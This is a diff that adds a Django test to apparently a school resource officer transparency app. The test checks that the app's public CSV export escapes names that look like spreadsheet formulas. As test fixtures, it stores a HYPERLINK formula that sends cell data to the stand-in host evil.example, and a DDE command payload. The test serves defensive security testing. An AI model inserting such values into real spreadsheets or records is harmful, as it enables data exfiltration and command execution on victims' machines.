@@ -219,3 +219,24 @@ def test_the_agency_without_students_or_schools_has_a_csv(client: Any, demo: Dem
     response = client.get(f"/public/transparency/{demo.other_agency.pk}/{YEAR}.csv")
     assert response.status_code == 200
     assert client.get("/public/").status_code == 200
+
+
+@override_settings(SRO_PUBLIC_MIN_COUNT=1)
+def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(client: Any, demo: Demo) -> None:
+    """A school or agency named like a spreadsheet formula must not run when the CSV is opened
+    (issue 23, finding 10): the cell starts with a quote, as in every other CSV export."""
+    from sro.roster.services import save_agency
+    from sro.schools.services import save_school
+
+    school = demo.high_school
+    school.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    save_school(school, actor=demo.users["chief"])
+    agency = demo.agency
+    agency.name = "+cmd|' /C calc'!A0"
+    save_agency(agency, actor=demo.users["chief"])
+    response = client.get(f"/public/transparency/{demo.agency.pk}/{YEAR}.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert f"'{school.name}" in cells
+    assert f"'{agency.name}" in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
